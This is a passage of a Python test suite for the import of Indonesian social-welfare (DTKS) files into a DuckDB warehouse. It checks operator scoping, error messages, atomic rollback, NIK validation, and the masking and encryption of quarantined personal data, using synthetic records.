    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, [*GOOD_ROWS, GOOD_ROWS[0]])
    report = tmp_path / "laporan.xlsx"
    assert main(["import", "dtks", str(file), "--report", str(report), "--db", str(warehouse)]) == 0
    out = capsys.readouterr().out
    assert "4 read, 3 loaded, 1 quarantined" in out
    summary = list(openpyxl.load_workbook(report)["summary"].iter_rows(values_only=True))
    assert summary[4][1:4] == ("duplicate_in_file", "NOMOR NIK", 1)
    # The audit log has the import, written in the import's transaction, once.
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        logged = queries.run(con, "audit/events", dari=None, sampai=None, nama_pengguna=None, peristiwa="file_imported")
    finally:
        con.close()
    assert logged[["nama_pengguna", "objek", "rincian"]].values.tolist() == [
        ["cli", "dtks.csv", '{"dibaca": 4, "dimuat": 3, "jenis": "dtks", "karantina": 1}']
    ]


# --- an operator's scope (issue 13.6) -----------------------------------------------------


def with_operator(path: Path, **scope) -> None:
    """An admin (the first account must be one) and op.alpha, an operator limited by ``scope``."""
    now = users.utcnow()
    with db.atomic_update(path) as con:
        users.add_account(con, "admin", "admin", "sandi-admin-1", now)
        users.add_account(con, "op.alpha", "operator", "sandi-operator-1", now, **scope)


def test_an_operator_imports_only_the_rows_of_their_kelurahan(warehouse, tmp_path, capsys):
    with_operator(warehouse, kelurahan=["99.71.01.1001"])
    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
    assert main(["import", "dtks", str(file), "--as-user", "OP.Alpha", "--db", str(warehouse)]) == 0
    out = capsys.readouterr().out
    assert "3 read, 2 loaded, 1 quarantined" in out
    assert "1 rows: " + ai.REASONS["outside_scope"] + " [DESA/KELUARAHAN] (first: row 3)" in out
    assert quarantine(warehouse) == [(3, "outside_scope", "kelurahan")]
    assert rows(warehouse, queries.load("tests/agency_import/kelurahan_of_d")) == [("D1", "99.71.01.1001")]
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        logged = queries.run(con, "audit/events", dari=None, sampai=None, nama_pengguna=None, peristiwa="file_imported")
    finally:
        con.close()
    assert logged["nama_pengguna"].tolist() == ["op.alpha"]


def test_an_operator_of_a_kecamatan_imports_all_its_kelurahan(warehouse, tmp_path):
    with_operator(warehouse, kecamatan=["99.71.01"])
    with db.atomic_update(warehouse) as con:
        by, scope = ai.importing_account(con, "op.alpha")
        result = ai.import_file(
            con, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS), today=TODAY, scope_kelurahan=scope
        )
    assert by == "op.alpha" and scope == ("99.71.01.1001", "99.71.01.1002", "99.71.01.2003", "99.71.01.2004")
    assert (result.rows_loaded, result.rows_quarantined) == (3, 0)


def test_an_operators_verivali_rows_of_households_elsewhere_are_quarantined(warehouse, tmp_path):
    header = ["ID DTKS", "TANGGAL KUNJUNGAN", "HASIL", "ID PETUGAS", "TAHAP", "SIKLUS"]
    body = [
        ["h3", "12/02/2026", "Ditemukan", "p1", "", ""],  # Alpha
        ["h5", "13/02/2026", "Ditemukan", "p1", "", ""],  # Beta
        ["hX", "12/02/2026", "Ditemukan", "p1", "", ""],  # unknown household: its own reason
    ]
    result = run_import(
        warehouse, "verivali", write_csv(tmp_path / "v.csv", header, body, ","), scope_kelurahan=("99.71.01.1001",)
    )
    assert quarantine(warehouse) == [(2, "outside_scope", "id_dtks"), (3, "household_unknown", "id_dtks")]
    assert result.added == {"verivali": 1}


def test_the_import_page_imports_only_the_signed_in_operators_rows(warehouse, tmp_path, monkeypatch):
    import streamlit as st

    from ui import admin, auth

    monkeypatch.setenv(db.DB_ENV, str(warehouse))
    operator = auth.Session.of(users.Account("op.beta", "operator", kelurahan=("99.71.01.1002",)), ("99.71.01.1002",))
    monkeypatch.setitem(st.session_state, auth.SESSION_KEY, operator)
    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
    result = admin.run_agency_import("dtks", file, "dtks.csv")
    assert (result.rows_loaded, result.rows_quarantined) == (1, 2)
    assert quarantine(warehouse) == [(1, "outside_scope", "kelurahan"), (2, "outside_scope", "kelurahan")]
    assert rows(warehouse, queries.load("tests/agency_import/file_imported_by")) == [("op.beta",)]


def test_import_as_an_account_that_may_not_import_is_refused(warehouse, tmp_path, capsys):
    with_operator(warehouse, kelurahan=["99.71.01.1001"])
    with db.atomic_update(warehouse) as con:
        users.add_account(con, "kepala", "kepala", "sandi-kepala-1", users.utcnow())
    before = snapshot(warehouse)
    file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
    assert main(["import", "dtks", str(file), "--as-user", "kepala", "--db", str(warehouse)]) == 2
    assert "user 'kepala' (kepala) may not import" in capsys.readouterr().err
    assert main(["import", "dtks", str(file), "--as-user", "nobody", "--db", str(warehouse)]) == 2
    assert "no active user 'nobody'" in capsys.readouterr().err
    assert snapshot(warehouse) == before


# --- bad files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "case, message",
    [
        ("random", "random.csv: not a text (CSV) file"),
        ("empty", "empty.csv: the file is empty"),
        ("header_only", "header_only.csv: the file has a header but no data rows"),
        ("sheet", "book.xlsx: no sheet named 'Lembar9'; the workbook has: 'DTKS'"),
        ("columns", "columns.csv: no column for nik; no_kk"),
        ("sheet_on_csv", "sheet_on_csv.csv: --sheet 'X' given, but the file is not an Excel workbook"),
    ],
)
def test_bad_files_give_a_clear_error_naming_the_file(warehouse, tmp_path, capsys, case, message):
    sheet = None
    if case == "random":
        file = tmp_path / "random.csv"
        file.write_bytes(os.urandom(10 * 1024 * 1024))
    elif case == "empty":
        file = tmp_path / "empty.csv"
        file.write_bytes(b"")
    elif case == "header_only":
        file = write_csv(tmp_path / "header_only.csv", SIKS_HEADER, [])
    elif case == "sheet":
        file, sheet = write_xlsx(tmp_path / "book.xlsx", SIKS_HEADER, GOOD_ROWS), "Lembar9"
    elif case == "columns":
        file = write_csv(tmp_path / "columns.csv", ["NAMA", "KELURAHAN"], [["A", "Alpha"]])
    else:
        file, sheet = write_csv(tmp_path / "sheet_on_csv.csv", SIKS_HEADER, GOOD_ROWS), "X"
    before = snapshot(warehouse)
    with pytest.raises(ImportFileError, match="^" + message.replace("(", r"\(").replace(")", r"\)")):
        run_import(warehouse, "dtks", file, sheet=sheet)
    args = ["import", "dtks", str(file), "--db", str(warehouse)] + (["--sheet", sheet] if sheet else [])
    assert main(args) == 2
    assert message in capsys.readouterr().err
    assert snapshot(warehouse) == before


def test_random_bytes_without_nul_are_not_text_either(warehouse, tmp_path):
    file = tmp_path / "noise.csv"
    data = bytes(b for b in os.urandom(300_000) if b not in (0, 0x81, 0x8D, 0x8F, 0x90, 0x9D, 10, 13))[:100_000]
    file.write_bytes(b"A,B\n" + data + b"\x81")
    with pytest.raises(ImportFileError, match=r"^noise\.csv: not readable as UTF-8 or Windows-1252"):
        run_import(warehouse, "dtks", file)


# --- atomicity ---------------------------------------------------------------------------


def big_dtks_file(path: Path, n: int) -> Path:
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(";".join(SIKS_HEADER) + "\n")
        for i in range(n):
            row = siks_row(
                f"X{i}",
                "Alpha",
                f"99710101012{5 + i // 10**5 % 5}{i % 10**5 + 1:04d}"[:16].ljust(16, "1"),
                f"9971011505{80 + i // 9999 % 20}{i % 9999 + 1:04d}",
                "Nama",
                "15/05/1980",
                "L",
                "KEPALA KELUARGA",
            )
            handle.write(";".join(row) + "\n")
    return path


def every_table(path: Path) -> dict:
    """Every row of every table of the warehouse, as text."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        names = [r[0] for r in con.execute(queries.load("demo/tables")).fetchall()]
        return {
            t: sorted(map(str, con.execute(queries.load("tests/agency_import/table_rows"), {"t": t}).fetchall()))
            for t in names
        }
    finally:
        con.close()


KILLED_ROWS = 150_000
"""Members of the import killed midway: more than a DuckDB row group (122,880 rows), the unit
DuckDB writes into the warehouse file before the commit; a smaller import writes the file only
at its checkpoint, after the commit."""


def test_an_import_killed_midway_leaves_the_warehouse_unchanged(warehouse, tmp_path):
    file = big_dtks_file(tmp_path / "big.csv", KILLED_ROWS)
    before = every_table(warehouse)
    mtime = warehouse.stat().st_mtime_ns
    proc = subprocess.Popen(
        [sys.executable, "-m", "warehouse", "import", "dtks", str(file), "--db", str(warehouse)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    # Killed once it writes into the warehouse file itself (DuckDB writes large uncommitted
    # inserts into free blocks of the file before the commit).
    deadline = time.monotonic() + 120
    while warehouse.stat().st_mtime_ns == mtime and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert proc.poll() is None, "the import ended before it could be killed"
    assert db.write_pending(warehouse)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    # The kernel released the killed writer's lock; the uncommitted blocks are free space.
    assert not db.write_pending(warehouse)
    assert every_table(warehouse) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".w.")) == [".w.duckdb.lock"]
    # The next import runs normally.
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS))
    assert result.rows_loaded == 3
    assert rows(warehouse, queries.load("tests/agency_import/import_count")) == [(1,)]


def test_a_failing_import_rolls_back_everything(warehouse, tmp_path, monkeypatch):
    before = warehouse.read_bytes()

    def boom(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(ai, "_report", boom)
    with pytest.raises(RuntimeError, match="disk full"):
        run_import(warehouse, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS))
    assert warehouse.read_bytes() == before
    assert not warehouse.with_name(warehouse.name + ".wal").exists()


def test_a_failing_audit_row_rolls_back_the_import(warehouse, tmp_path):
    before = every_table(warehouse)

    def audit(con, result):
        raise RuntimeError("audit log full")

    with pytest.raises(RuntimeError, match="audit log full"):
        run_import(warehouse, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS), before_commit=audit)
    assert every_table(warehouse) == before


READER = """
import sys, time
from pathlib import Path
import queries
from ui import data
reader = data._Reader(sys.argv[1])
stop = Path(sys.argv[2])
while not stop.exists():
    with reader.cursor() as con:
        print(con.execute(queries.load("tests/agency_import/member_count")).fetchone()[0], flush=True)
    time.sleep(0.01)
"""


def test_the_dashboard_keeps_reading_while_an_import_runs(warehouse, tmp_path, capsys):
    # A second process reading the way the dashboard does (ui.data's shared read-only
    # connection), as fast as it can, while the command line imports (in this process: the
    # reader is another process either way; python -m warehouse as a process of its own is
    # test_an_import_killed_midway_leaves_the_warehouse_unchanged's).
    stop = tmp_path / "stop"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(warehouse), str(stop)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert reader.stdout.readline().strip() == "6"
        file = write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS)
        code = main(["import", "dtks", str(file), "--db", str(warehouse)])
        done = capsys.readouterr()
        assert code == 0, done.err
        seen = reader.stdout.readline().strip()
        deadline = time.monotonic() + 30
        while seen == "6" and time.monotonic() < deadline:
            seen = reader.stdout.readline().strip()
    finally:
        stop.touch()
        out, err = reader.communicate(timeout=60)
    # The reader saw the old rows, then the new ones, and nothing in between; it never failed.
    assert seen == "9" and set(out.split()) <= {"9"}, err
    assert reader.returncode == 0, err
    assert "3 loaded" in done.out


def test_the_dashboards_own_import_gets_the_file_from_its_reader(warehouse, tmp_path):
    # The import page runs in the dashboard's process, beside the connection its pages read.
    from ui import data

    reader = data._Reader(str(warehouse))
    with reader.cursor() as con:
        assert con.execute(queries.load("tests/agency_import/member_count")).fetchone() == (6,)
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "dtks.csv", SIKS_HEADER, GOOD_ROWS))
    assert result.rows_loaded == 3
    with reader.cursor() as con:
        assert con.execute(queries.load("tests/agency_import/member_count")).fetchone() == (9,)


def test_an_idle_reader_lets_the_file_go_and_opens_it_again_when_asked(warehouse):
    from ui import data

    reader = data._Reader(str(warehouse))
    reader._IDLE_S = 0.3
    with reader.cursor() as con:
        assert con.execute(queries.load("tests/agency_import/member_count")).fetchone() == (6,)
    # While the reader's read-only connection is open, this process cannot open the file for
    # writing (DuckDB refuses a second configuration of an open file).
    deadline = time.monotonic() + 10
    while True:
        try:
            writer = duckdb.connect(str(warehouse))
            break
        except duckdb.ConnectionException:
            assert time.monotonic() < deadline, "the idle reader still holds the file"
            time.sleep(0.05)
    writer.close()
    with reader.cursor() as con:
        assert con.execute(queries.load("tests/agency_import/member_count")).fetchone() == (6,)


def test_a_second_concurrent_update_is_refused(warehouse):
    with db.atomic_update(warehouse):
        with pytest.raises(db.WarehouseBusy, match="another import is changing this warehouse"):
            with db.atomic_update(warehouse, wait=0.2):
                pass


def test_a_reader_that_holds_the_file_makes_the_writer_give_up_in_time(warehouse):
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import duckdb, sys; c = duckdb.connect(sys.argv[1], read_only=True); print('open', flush=True); input()",
            str(warehouse),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "open"
        started = time.monotonic()
        with pytest.raises(db.WarehouseBusy, match="still holds the warehouse open after 1 s"):
            with db.atomic_update(warehouse, wait=1.0):
                pass
        assert time.monotonic() - started < 5
    finally:
        holder.communicate("\n", timeout=30)
    assert not db.write_pending(warehouse)


def test_import_sql_files_document_themselves():
    import re

    import queries

    for path in sorted((ROOT / "queries" / "import").glob("*.sql")):
        sql = path.read_text(encoding="utf-8")
        header = "\n".join(line for line in sql.splitlines() if line.startswith("--"))
        body = "\n".join(line for line in sql.splitlines() if not line.startswith("--"))
        assert "Output" in header, path.name
        for param in set(re.findall(r"\$([a-z_]+)", sql)):
            assert f"${param}" in header, f"{path.name}: header must list ${param}"
        assert body.count(";") == 0, f"{path.name}: one statement, no semicolon"
        assert queries.load(f"import/{path.stem}") == sql


# --- the NIK/KK validator (queries/import/macro_nomor_problem.sql) -----------------------


def nomor_oracle(value: str, women: bool) -> str | None:
    """The NIK/KK rule written independently of the SQL macro."""
    import datetime as dt
    import re

    if not re.fullmatch(r"[0-9]{16}", value):
        return "not_16_digits"
    if int(value[:2]) < 11 or value[2:4] == "00" or value[4:6] == "00":
        return "region"
    day, month, yy = int(value[6:8]), int(value[8:10]), int(value[10:12])
    if women and 41 <= day <= 71:
        day -= 40
    try:
        dt.date(2000 + yy if yy < 69 else 1900 + yy, month, day)
    except ValueError:
        return "date"
    if value[12:] == "0000":
        return "serial"
    return None


@pytest.fixture(scope="module")
def macro_con():
    import queries

    con = duckdb.connect()
    for name in ai.MACROS:
        con.execute(queries.load(name))
    yield con
    con.close()


@settings(max_examples=400, deadline=None)
@given(
    region=st.text(alphabet="0123456789", min_size=6, max_size=6),
    day=st.integers(0, 99),
    month=st.integers(0, 19),
    year=st.integers(0, 99),
    serial=st.text(alphabet="0123456789", min_size=4, max_size=4),
    women=st.booleans(),
)
def test_nik_validator_agrees_with_the_rule(macro_con, region, day, month, year, serial, women):
    value = f"{region}{day:02d}{month:02d}{year:02d}{serial}"
    got = macro_con.execute(queries.load("tests/agency_import/nomor_problem"), {"v": value, "w": women}).fetchone()[0]
    assert got == nomor_oracle(value, women)


@settings(max_examples=200, deadline=None)
@given(value=st.text(max_size=20), women=st.booleans())
def test_nik_validator_on_any_text(macro_con, value, women):
    got = macro_con.execute(queries.load("tests/agency_import/nomor_problem"), {"v": value, "w": women}).fetchone()[0]
    assert got == nomor_oracle(value, women)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("15/05/1980", "1980-05-15"),
        ("1/2/2000", "2000-02-01"),
        ("2000-02-29", "2000-02-29"),
        ("29/02/2001", None),
        ("31/04/2020", None),
        ("15.05.1980", "1980-05-15"),
        ("1980-05-15 00:00:00", "1980-05-15"),
        ("15 Mei 1980", None),
    ],
)
def test_parse_date(macro_con, value, expected):
    got = macro_con.execute(queries.load("tests/agency_import/parse_date"), {"v": value}).fetchone()[0]
    assert got == expected


@pytest.mark.parametrize(
    "value, expected",
    [
        ("750000", 750000),
        ("750.000", 750000),
        ("Rp 1.750.000", 1750000),
        ("750,000", 750000),
        ("750000.00", 750000),
        ("-5", -5),
        ("tujuh", None),
        ("1.5.0", None),
    ],
)
def test_parse_amount(macro_con, value, expected):
    assert macro_con.execute(queries.load("tests/agency_import/parse_amount"), {"v": value}).fetchone()[0] == expected


# --- hostile files (issue 17: points 4-7) --------------------------------------------------

SIXTEEN_DIGITS = re.compile(r"\d{16}")


def quarantine_text(path: Path) -> str:
    """Every stored value of the quarantine as one text, to scan for personal data."""
    return "\n".join(str(v) for row in rows(path, queries.load("tests/agency_import/quarantine_values")) for v in row)


def test_quarantined_rows_keep_no_readable_personal_data(warehouse, tmp_path):
    key = tmp_path / "keys" / "karantina.key"
    bad = [
        siks_row("B1", "Alpha", "9971010101250011", "9971011505800000", "Siti Nur Aisyah", "15/05/1980", "P", "ISTRI"),
        siks_row("B2", "Omega", "9971010101250012", "9971014505850002", "Wahyuni Kartika", "05/05/1985", "P", "ISTRI"),
        siks_row(
            "B3", "Alpha", "9971010101250013", "9971011203700003", "Hendra Gunawan", "12/03/1970", "L", "TETANGGA"
        ),
    ]
    file = write_csv(tmp_path / "bad.csv", SIKS_HEADER, [*GOOD_ROWS, *bad])
    with open(file, "a", encoding="utf-8") as handle:
        handle.write("D9;9971011111900009;Rahmat Hidayat;Jl. Rahasia 7\n")  # 7: malformed, personal data
    result = run_import(warehouse, "dtks", file, settings=ai.ImportSettings(key_file=key))
    assert quarantine(warehouse) == [
        (4, "nik_serial", "nik"),
        (5, "kelurahan_unknown", "kelurahan"),
        (6, "enum_unknown", "hubungan"),
        (7, "malformed_row", None),
    ]
    stored = quarantine_text(warehouse)
    report = "\n".join(result.lines()) + str(result.report.to_dict("records"))
    for text in (stored, report):
        assert not SIXTEEN_DIGITS.search(text)
        for name in ("Siti", "Aisyah", "Wahyuni", "Kartika", "Hendra", "Gunawan", "Rahmat", "Hidayat", "Rahasia"):
            assert name not in text
        for birth in ("15/05/1980", "05/05/1985", "12/03/1970"):
            assert birth not in text
        assert "Jl. Uji" not in text and "Kota Uji" not in text
    # The offending value, masked, and the masked row: enough to find and fix the row.
    assert rows(warehouse, queries.load("tests/agency_import/quarantine_masked"))[:3] == [
        (4, "************0000", "S. N. A.", "**/**/****"),
        (5, "Omega", "W. K.", "**/**/****"),
        (6, "TETANGGA", "H. G.", "**/**/****"),
    ]
    # The malformed record is kept only encrypted, with a key outside the warehouse, owner-only.
    assert key.stat().st_mode & 0o777 == 0o600
    (token,) = rows(warehouse, queries.load("tests/agency_import/quarantine_token_row_7"))[0]
    assert Fernet(key.read_bytes()).decrypt(bytes(token)) == b"D9;9971011111900009;Rahmat Hidayat;Jl. Rahasia 7"


def test_encrypted_records_are_purged_after_the_retention_period(warehouse, tmp_path):
    key = tmp_path / "karantina.key"
    settings = ai.ImportSettings(key_file=key, retention_days=90)
    file = write_csv(tmp_path / "a.csv", SIKS_HEADER, GOOD_ROWS)
    with open(file, "a", encoding="utf-8") as handle:
        handle.write("D9;too;few\n")
    run_import(warehouse, "dtks", file, settings=settings)
    assert rows(warehouse, queries.load("tests/agency_import/quarantine_encrypted_count")) == [(1,)]
    con = duckdb.connect(str(warehouse))
    con.execute(queries.load("tests/agency_import/imports_older_by_91_days"))
    con.close()
    later = [siks_row("D3", "Beta", "9971010101250003", "9971010107900004", "Dedi", "01/07/1990", "L", "KK")]
    run_import(warehouse, "dtks", write_csv(tmp_path / "b.csv", SIKS_HEADER, later), settings=settings)
    # The row, column and reason stay; the encrypted record is gone.
    assert rows(warehouse, queries.load("tests/agency_import/quarantine_encrypted")) == [(4, "malformed_row", None)]


def test_rows_quarantined_before_the_masking_lose_their_raw_values(warehouse, tmp_path):
    con = duckdb.connect(str(warehouse))
    con.execute(queries.load("tests/agency_import/quarantine_before_masking"))
    con.close()
    run_import(warehouse, "dtks", write_csv(tmp_path / "d.csv", SIKS_HEADER, GOOD_ROWS))
    assert rows(warehouse, queries.load("tests/agency_import/quarantine_data")) == [(7, 3, "nik_serial", None)]


def test_no_member_id_is_built_from_a_nik(warehouse, tmp_path):
    run_import(warehouse, "dtks", write_csv(tmp_path / "d.csv", SIKS_HEADER, GOOD_ROWS))
    ids = rows(warehouse, queries.load("tests/agency_import/member_ids_d"))
    assert ids == [("AG-00000001",), ("AG-00000002",), ("AG-00000003",)]


def fifty_rows() -> list[list[str]]:
    return [
        siks_row(
            f"Q{i}",
            "Alpha",
            f"99710101012{50000 + i:05d}",
            f"99710115058{10000 + i:05d}",
            f"Warga {i}",
            "15/05/1981",
            "L",
            "KEPALA KELUARGA",
        )
        for i in range(1, 51)
    ]


def test_a_stray_quote_in_row_2_of_50_costs_that_row_only(warehouse, tmp_path):
    body = [";".join(r) for r in fifty_rows()]
    # An opening quote that never closes: read as CSV, it would swallow the rest of the file.
    body[1] = body[1].replace("Warga 2", '"Warga 2')
    # A quote inside a field is text.
    body[2] = body[2].replace("Warga 3", 'Warga "Tiga"')
    file = tmp_path / "quote.csv"
    file.write_text(";".join(SIKS_HEADER) + "\n" + "\n".join(body) + "\n", encoding="utf-8")
    result = run_import(warehouse, "dtks", file)
    assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == (50, 49, 1)
    assert quarantine(warehouse) == [(2, "malformed_row", None)]
    assert result.report.iloc[0]["examples"] == [{"nomor_baris": 2, "detail": "unbalanced quotes"}]
    assert rows(warehouse, queries.load("tests/agency_import/members_q_count")) == [(49,)]
    assert rows(warehouse, queries.load("tests/agency_import/name_of_q3")) == [('Warga "Tiga"',)]


def test_a_mixed_encoding_file_stores_no_mojibake(warehouse, tmp_path):
    body = [list(r) for r in GOOD_ROWS]
    body[0][11], body[2][11] = "Budi Sétiawan", "Candra Müller"
    lines = [";".join(r) for r in body]
    file = tmp_path / "mix.csv"
    file.write_bytes(
        (";".join(SIKS_HEADER) + "\n" + lines[0] + "\n" + lines[1] + "\n").encode("utf-8")
        + (lines[2] + "\n").encode("cp1252")
    )
    result = run_import(warehouse, "dtks", file)
    assert result.rows_loaded == 3 and result.warnings == [("encoding_fallback", "1")]
    assert "  warning: 1 lines were not UTF-8 and were read as Windows-1252" in result.lines()
    assert rows(warehouse, queries.load("tests/agency_import/names_d")) == [
        ("Budi Sétiawan",),
        ("Ani Lestari",),
        ("Candra Müller",),
    ]
    assert "windows-1252" in rows(warehouse, queries.load("tests/agency_import/import_notes"))[0][0]


def test_a_20_digit_amount_is_quarantined_not_a_traceback(warehouse, tmp_path):
    header = ["ID TRANSAKSI", "PROGRAM", "TAHAP", "NIK KPM", "NOMINAL", "TANGGAL TRANSAKSI", "KANAL", "NILAI HAK"]
    body = [
        ["d2", "PKH", "2026-T1", "9971010101900003", "12345678901234567890", "11/02/2026", "Pos", ""],
        ["d3", "PKH", "2026-T1", "9971010101700004", "700000", "11/02/2026", "Pos", "99999999999999999999.00"],
        ["d4", "PKH", "2026-T1", "9971010101750005", "9223372036854775807", "11/02/2026", "Pos", ""],
    ]
    result = run_import(warehouse, "penyaluran", write_csv(tmp_path / "besar.csv", header, body, ","))
    assert quarantine(warehouse) == [(1, "amount_invalid", "nilai_diterima"), (2, "amount_invalid", "nilai_hak")]
    assert result.rows_loaded == 1
    assert rows(warehouse, queries.load("tests/agency_import/received_of_d4")) == [(9223372036854775807,)]


def test_one_nik_in_two_households_is_quarantined(warehouse, tmp_path):
    body = [
        *GOOD_ROWS,
        # Ani (row 2, household D1) again in household D2 of the same file.
        siks_row("D2", "Beta", "9971010101250002", "9971015505820002", "Ani Lestari", "1982-05-15", "P", "ISTRI"),
        # Seed member a1 (NIK 9971011203800001, active in h1) in a new household.
        siks_row("D5", "Beta", "9971010101250005", "9971011203800001", "Uji Satu", "12/03/1980", "L", "KK"),
    ]
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "dua.csv", SIKS_HEADER, body))
    assert quarantine(warehouse) == [(4, "nik_other_household", "nik"), (5, "nik_other_household", "nik")]
    assert result.rows_loaded == 3
    # One person, one record: each NIK once among the members, so coverage counts it once.
    assert rows(
        warehouse,
        queries.load("tests/agency_import/two_niks_counts"),
    ) == [("9971011203800001", 1), ("9971015505820002", 1)]
    # The same file against the warehouse: a NIK now in D1 is refused for D7.
    again = [siks_row("D7", "Beta", "9971010101250007", "9971011505800001", "Budi Santoso", "15/05/1980", "L", "KK")]
    run_import(warehouse, "dtks", write_csv(tmp_path / "lagi.csv", SIKS_HEADER, again))
    assert quarantine(warehouse)[-1] == (1, "nik_other_household", "nik")


def test_a_newer_export_that_corrects_a_nik_updates_the_member(warehouse, tmp_path):
    run_import(warehouse, "dtks", write_csv(tmp_path / "v1.csv", SIKS_HEADER, GOOD_ROWS))
    newer = [list(r) for r in GOOD_ROWS]
    newer[1][10] = "9971015505820012"  # Ani's NIK, corrected
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "v2.csv", SIKS_HEADER, newer))
    assert result.added == {"dtks_keluarga": 0, "dtks_anggota": 0}
    assert rows(warehouse, queries.load("tests/agency_import/members_of_d1")) == [
        ("AG-00000001", "9971011505800001", "Budi Santoso", "aktif"),
        ("AG-00000002", "9971015505820012", "Ani Lestari", "aktif"),
    ]


def test_an_unknown_header_that_resembles_a_known_one_stops_the_import(warehouse, tmp_path, capsys):
    header = [h if h != "NOMOR NIK" else "NOMOR NIIK" for h in SIKS_HEADER] + ["NIK", "CATATAN PETUGAS"]
    body = [[*r, r[10], "catatan"] for r in GOOD_ROWS]
    file = write_csv(tmp_path / "typo.csv", header, body)
    before = snapshot(warehouse)
    message = (
        "typo.csv: headers not recognised but close to known ones: 'NOMOR NIIK' (closest known header: 'NOMOR NIK')"
    )
    with pytest.raises(ImportFileError, match="^" + re.escape(message)):
        run_import(warehouse, "dtks", file)
    assert main(["import", "dtks", str(file), "--db", str(warehouse)]) == 2
    assert message in capsys.readouterr().err
    assert snapshot(warehouse) == before
    assert main(["import", "dtks", str(file), "--allow-unmapped", "--db", str(warehouse)]) == 0
    out = capsys.readouterr().out
    assert "  ignored header: NOMOR NIIK (closest known header: NOMOR NIK)" in out
    assert "  ignored header: CATATAN PETUGAS" in out and "3 read, 3 loaded" in out
    assert (
        "ignored headers: NOMOR NIIK, CATATAN PETUGAS"
        in rows(warehouse, queries.load("tests/agency_import/import_notes"))[0][0]
    )


def test_implausible_dates_and_faraway_coordinates_are_quarantined(warehouse, tmp_path):
    header = ["ID DTKS", "TANGGAL KUNJUNGAN", "HASIL", "SIKLUS"]
    body = [["h3", "12/02/1949", "Ditemukan", "S1"], ["h4", "01/03/2026", "Ditemukan", "S1"]]
    run_import(warehouse, "verivali", write_csv(tmp_path / "v.csv", header, body, ","))
    # 1949: before 1950; 1 March 2026: after the data date (28 February).
    assert quarantine(warehouse) == [(1, "date_out_of_range", "tanggal"), (2, "date_out_of_range", "tanggal")]
    header = ["NO LAPORAN", "JENIS PMKS", "SUMBER LAPORAN", "TANGGAL LAPOR", "KELURAHAN", "LATITUDE", "LONGITUDE"]
    body = [
        ["k1", "ODGJ", "Patroli", "01/02/2026 22:00", "Alpha", "0.005", "100.005"],  # inside
        ["k2", "ODGJ", "Patroli", "01/02/2026 22:00", "Alpha", "0.06", "100.005"],  # 0.04 deg out: buffer
        ["k3", "ODGJ", "Patroli", "01/02/2026 22:00", "Alpha", "-6.2", "106.8"],  # Jakarta
        ["k4", "ODGJ", "Patroli", "01/02/2026 22:00", "Alpha", "0.005", "100.08"],  # 0.06 deg east
    ]
    result = run_import(warehouse, "pmks", write_csv(tmp_path / "p.csv", header, body, ","))
    assert quarantine(warehouse)[2:] == [
        (3, "coordinates_outside_region", "lon"),
        (4, "coordinates_outside_region", "lon"),
    ]
    assert result.rows_loaded == 2


def test_nik_digits_against_sex_and_birth_date_are_findings(warehouse, tmp_path):
    body = [list(r) for r in GOOD_ROWS]
    body[0][14] = "PEREMPUAN"  # NIK day 15: a man
    body[2][12] = "02/07/1990"  # NIK 010790
    result = run_import(warehouse, "dtks", write_csv(tmp_path / "f.csv", SIKS_HEADER, body))
    assert (result.rows_loaded, result.rows_quarantined) == (3, 0)
    assert result.findings[["temuan", "header", "rows_count", "first_row", "rows"]].to_dict("records") == [
        {"temuan": "nik_birth_date_mismatch", "header": "TANGGAL LAHIR", "rows_count": 1, "first_row": 3, "rows": [3]},
        {"temuan": "nik_sex_mismatch", "header": "JENIS KELAMIN", "rows_count": 1, "first_row": 1, "rows": [1]},
    ]
    text = "\n".join(result.lines())
    assert "1 rows loaded with a finding: NIK digits 7-8 (day of birth, +40 for women) contradict JENIS KELAMIN" in text
    book = openpyxl.load_workbook(io.BytesIO(ai.report_excel(result)))
    cells = [c for r in book["summary"].iter_rows(values_only=True) for c in r]
    assert "nik_sex_mismatch" in cells and "nik_birth_date_mismatch" in cells


def test_the_staging_folder_is_removed_and_stale_ones_too(warehouse, tmp_path):
    stale = Path(tempfile.gettempdir()) / f"{ai._WORK_PREFIX}999999999-x"
    stale.mkdir(exist_ok=True)
    (stale / "records.csv").write_text("personal data")
    before = set(Path(tempfile.gettempdir()).glob(f"{ai._WORK_PREFIX}{os.getpid()}-*"))
    run_import(warehouse, "dtks", write_csv(tmp_path / "d.csv", SIKS_HEADER, GOOD_ROWS))
    assert not stale.exists()
    assert set(Path(tempfile.gettempdir()).glob(f"{ai._WORK_PREFIX}{os.getpid()}-*")) == before


def test_a_file_without_a_header_row_keeps_its_numbers_out_of_the_message(warehouse, tmp_path):
    file = tmp_path / "tanpa_judul.csv"
